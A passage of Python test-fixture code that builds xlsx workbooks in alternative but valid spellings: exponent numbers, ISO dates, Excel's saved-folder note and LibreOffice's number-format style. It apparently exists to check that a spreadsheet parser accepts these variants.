        hint = etree.SubElement(inline, f"{{{MAIN}}}rPh", sb="0", eb="1")
        etree.SubElement(hint, f"{{{MAIN}}}t").text = "ジー"

    _edit_sheet(pkg, "Sign-off", signoff)


def _numbers_and_dates(pkg: Package) -> None:
    """Numbers in exponent form, with a sign or spaces; the sign-off date as an ISO date."""
    _set_cell(pkg, "Gains", "B8", "><v>6.35E1</v>")
    _set_cell(pkg, "Gains", "B9", "><v>+53.7</v>")
    _set_cell(pkg, "Gains", "B10", "><v> 14.6 </v>")
    _set_cell(pkg, "Sign-off", "B7", 't="d"><v>2009-05-12T00:00:00</v>')


def _folder_note(pkg: Package) -> None:
    """Excel's note of the folder the workbook was saved in, in mc:AlternateContent."""
    wb = pkg.workbook_part()
    root = pkg.xml(wb)
    x15ac = "http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"
    alternate = etree.fromstring(
        f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="x15"><x15ac:absPath '
        f'xmlns:x15ac="{x15ac}" url="C:\\Users\\finance\\Documents\\"/></mc:Choice></mc:AlternateContent>'
    )
    root.find("m:sheets", NS).addprevious(alternate)
    pkg.put(wb, root)


def _calc_spelling(pkg: Package) -> None:
    """The money format as LibreOffice writes it: [RED] and an escaped minus."""
    styles_part = next(
        t for kind, t in pkg.relationships(pkg.workbook_part()).values() if kind.endswith("/styles")
    )
    root = pkg.xml(styles_part)
    for fmt in root.iterfind("m:numFmts/m:numFmt", NS):
        if fmt.get("formatCode") == "#,##0.0;[Red]-#,##0.0":
            fmt.set("formatCode", "#,##0.0;[RED]\\-#,##0.0")
    pkg.put(styles_part, root)


ACCEPTED: dict[str, Edit] = {
    "cells-without-addresses": _without_addresses,
    "text-in-other-spellings": _texts,
    "numbers-and-dates-in-other-spellings": _numbers_and_dates,
    "excel-folder-note": _folder_note,
    "money-format-as-calc-spells-it": _calc_spelling,
}


def build_accepted(source: Path, out_dir: Path) -> dict[str, Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    built = {}
    for name, edit in ACCEPTED.items():
        pkg = Package(source)
        edit(pkg)
        built[name] = pkg.save(out_dir / f"{name}.xlsx")
    return built
